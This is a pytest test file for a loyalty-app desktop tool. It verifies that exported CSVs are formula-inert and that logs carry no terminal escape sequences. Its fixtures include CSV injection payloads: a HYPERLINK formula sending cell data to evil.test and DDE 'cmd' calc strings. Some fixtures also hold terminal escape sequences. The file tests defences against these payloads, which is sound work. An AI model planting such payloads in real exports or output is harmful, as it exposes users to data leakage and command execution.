"""Issue 13 point 2: every CSV the app writes is inert when opened in a spreadsheet, and what the
terminal and the GUI log show carries no control or escape characters.

Each exported file is read back as a spreadsheet would read it (csv, then cell by cell into an
openpyxl sheet the way a naive import does: a cell that looks like a number becomes one, any other
text is set as is, so a leading "=" would become a formula)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet.worksheet import Worksheet

from helpers.spreadsheet_make import write_csv
from helpers.spreadsheet_rows import MEMBER_HEADERS
from loyalty_desktop.core.textsafe import FORMULA_TRIGGERS, csv_cell, printable
from loyalty_desktop.sources.spreadsheet.rejects import RowReject, write_rejects_csv
from loyalty_desktop.sources.spreadsheet.values import Reason
from loyalty_desktop.store.rejects import RejectedRow, write_rejected_csv
from loyalty_emulators.klaviyo.server import DEMO_KEY, KlaviyoSandbox

HOSTILE = ["=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "-", "+", "@", "-x", "=\x1b[31mred"]
NUMBERS = ["-12", "-3.5", "+7", "-1e3", "12", "0", "-0,5"]


def read_as_spreadsheet(text: str, delimiter: str = ",") -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    wb = openpyxl.Workbook()
    ws = wb.active
    assert isinstance(ws, Worksheet)
    for row in rows:
        ws.append([_typed(c) for c in row])
    for cells in ws.iter_rows():
        for cell in cells:
            assert cell.data_type != "f", f"{cell.coordinate} {cell.value!r} would run as a formula"
    return rows


def _typed(cell: str) -> object:
    try:
        return float(cell.replace(",", "."))
    except ValueError:
        return ILLEGAL_CHARACTERS_RE.sub("", cell)  # a sheet cannot hold control characters


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or cell in NUMBERS, f"formula trigger in {cell!r}"


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_get_a_quote(cell: str) -> None:
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", [*NUMBERS, "alice@example.fr", "Chloé", "", "a=b", "1+1"])
def test_numbers_and_plain_text_stay_as_they_are(cell: str) -> None:
    assert csv_cell(cell) == cell
    assert csv_cell(-12) == -12 and csv_cell(None) is None


def test_run_rejects_export_is_inert_and_numbers_stay_numbers(tmp_path: Path) -> None:
    values = HOSTILE[3:] + NUMBERS
    rows = [RejectedRow(1, "klaviyo", "profile", HOSTILE[i % len(HOSTILE)], "points",
                        HOSTILE[-1 - i % len(HOSTILE)], value=value) for i, value in enumerate(values)]
    out = tmp_path / "run.csv"
    assert write_rejected_csv(rows, out) == len(rows)
    back = read_as_spreadsheet(out.read_text(encoding="utf-8-sig"))
    assert_inert(back)
    values = [r[7] for r in back[1:]]
    assert [v for v in values if v in NUMBERS] == NUMBERS  # -12 is still "-12", -3.5 still "-3.5"
    assert back[1][2] == "'" + HOSTILE[0]  # what the cell held, visible as text


def test_spreadsheet_rejects_export_is_inert(tmp_path: Path) -> None:
    rejects = [RowReject("m.csv", i + 2, "Points", v, Reason.NOT_A_NUMBER, detail=v)
               for i, v in enumerate(HOSTILE + NUMBERS)]
    out = tmp_path / "m.rejected.csv"
    write_rejects_csv(rejects, out, delimiter=";")
    back = read_as_spreadsheet(out.read_text(encoding="utf-8-sig"), delimiter=";")
    assert_inert(back)
    assert [r[3] for r in back[1:]][-len(NUMBERS):] == NUMBERS


def test_wizard_export_and_log_lines(tmp_path: Path) -> None:
    from loyalty_desktop.ui.wizard.pages_run import SyncPage

    logged: list[str] = []
    # The wizard's export is the run dialog's CSV (the rows the run recorded).
    rows = [RejectedRow(1, "klaviyo", "profile", h, "points", h, value="-12") for h in HOSTILE]
    page = SimpleNamespace(_rows=rows, log=SimpleNamespace(appendPlainText=logged.append), tr=lambda s: s)
    page._log = lambda line: SyncPage._log(page, line)  # type: ignore[arg-type]  # a stand-in page
    out = tmp_path / "wizard.csv"
    SyncPage.export_rejected(page, str(out))  # type: ignore[arg-type]
    back = read_as_spreadsheet(out.read_text(encoding="utf-8-sig"))
    assert_inert(back)
    assert all(r[7] == "-12" for r in back[1:])
    SyncPage._log(page, "✗ Klaviyo said: \x1b[2J\x1b]0;pwned\x07bad\rrow\x9b1m")  # type: ignore[arg-type]
    assert logged[-1] == "✗ Klaviyo said: bad row"


def test_printable_strips_escapes_and_controls() -> None:
    assert printable("a\x1b[31mred\x1b[0m") == "ared"
    assert printable("x\x1b]8;;http://evil.test\x1b\\link\x1b]8;;\x1b\\") == "xlink"
    assert printable("tab\there\nnew\rcr\x00nul\x7fdel\x85nel") == "tab here new cr nul del nel"
    assert printable("a\nb\tc", newlines=True, tabs=True) == "a\nb\tc"
    assert printable("\u202eevil") == " evil" and printable("Chloé 中文") == "Chloé 中文"


def cli(data: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("LOYALTY_DESKTOP_")}
    env.update(LOYALTY_DESKTOP_DATA_DIR=str(data), LOYALTY_DESKTOP_KLAVIYO_KEY=DEMO_KEY)
    return subprocess.run([sys.executable, "-m", "loyalty_desktop", *args], env=env, capture_output=True,
                          text=True, encoding="utf-8", timeout=180)


def test_cli_import_and_run_exports_are_inert_and_the_terminal_gets_no_escapes(tmp_path: Path) -> None:
    data = tmp_path / "data"
    members = write_csv(tmp_path / "membres.csv", [
        MEMBER_HEADERS,
        ["alice@example.fr", "Alice", "Martin", "100", "100", "Or", "", "", ""],
        ['=HYPERLINK("http://evil.test","x")', "Eve", "Evil", "10", "10", "Or", "", "", ""],
        ["+cmd|' /C calc'!A0", "Eve", "Evil", "10", "10", "Or", "", "", ""],
        ["-2+3+cmd|' /C calc'!A0", "Eve", "Evil", "10", "10", "Or", "", "", ""],
        ["@SUM(1+1)", "Eve", "Evil", "10", "10", "Or", "", "", ""],
        ["\x1b]0;pwned\x07\x1b[2Jevil@", "Eve", "Evil", "10", "10", "Or", "", "", ""],
        ["bob@example.fr", "Bob", "Dupont", "=1+1", "10", "Or", "", "", ""],
    ], encoding="utf-8", delimiter=";")
    with KlaviyoSandbox(job_seconds=0.05) as sb:
        first = cli(data, "sync", "--source", "csv", "--members", str(members), "--to", "klaviyo",
                    "--base-url", sb.base_url or "")
    assert first.returncode == 0, first.stderr
    assert "\x1b" not in first.stdout + first.stderr
    [saved] = (data / "imports").glob("membres-*.rejected.csv")  # one list per import
    imported = read_as_spreadsheet(saved.read_text(encoding="utf-8-sig"), delimiter=";")
    assert_inert(imported)
    assert len(imported) >= 6  # the header and the five hostile rows at least

    exported = tmp_path / "run-1.csv"
    assert cli(data, "runs", "--rejected", "1", "--csv", str(exported)).returncode == 0
    run_rows = read_as_spreadsheet(exported.read_text(encoding="utf-8-sig"))
    assert_inert(run_rows)
    assert any(c.startswith("'=HYPERLINK") for r in run_rows for c in r)

    for args in (("runs", "--rejected", "1"), ("runs", "--rejected", "1", "--csv", "-"), ("runs",)):
        shown = cli(data, *args)
        assert shown.returncode == 0 and shown.stdout
        assert not any(ch in shown.stdout for ch in "\x1b\x07\r\x9b"), shown.stdout
